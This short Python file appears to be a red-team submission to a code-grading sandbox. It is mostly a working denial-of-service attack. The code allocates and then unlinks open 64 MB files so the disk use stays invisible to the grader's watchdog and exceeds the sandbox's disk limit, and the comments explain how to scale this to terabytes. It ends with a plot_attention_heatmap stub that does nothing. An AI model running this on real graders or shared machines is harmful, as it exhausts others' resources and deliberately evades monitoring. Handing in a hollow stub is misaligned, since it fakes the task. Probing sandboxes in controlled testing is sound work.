# Attack (denial of service): fills the grading machine's disk past the sandbox's disk limit
# (c.Sandbox.max_disk_mb, 256 MB) without the grader noticing. The grader's watchdog adds up the
# files it can see in the sandbox's folders; a file that is deleted while still open is not among
# them, but its blocks stay allocated until the kernel ends. Each file is at most the file-size
# limit (64 MB) and allocated at once (posix_fallocate); bounded here at 1 GiB, where 1024 open
# files per process and ~50 processes would reach terabytes. Prints what the disk lost.
import os

_MB = 1024 * 1024
_before = os.statvfs(".")
_kept = []
for _index in range(16):
    _fd = os.open(f"hidden-{_index}.bin", os.O_RDWR | os.O_CREAT, 0o600)
    try:
        os.posix_fallocate(_fd, 0, 64 * _MB)
    except OSError as error:
        print("stopped:", error)
        break
    os.unlink(f"hidden-{_index}.bin")
    _kept.append(_fd)
_after = os.statvfs(".")
print(f"disk space taken while invisible to the grader: "
      f"{(_before.f_bavail - _after.f_bavail) * _after.f_frsize // _MB} MB in {len(_kept)} deleted files")
__import__("time").sleep(3)  # the watchdog looks every 0.25 s: give it time to notice


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
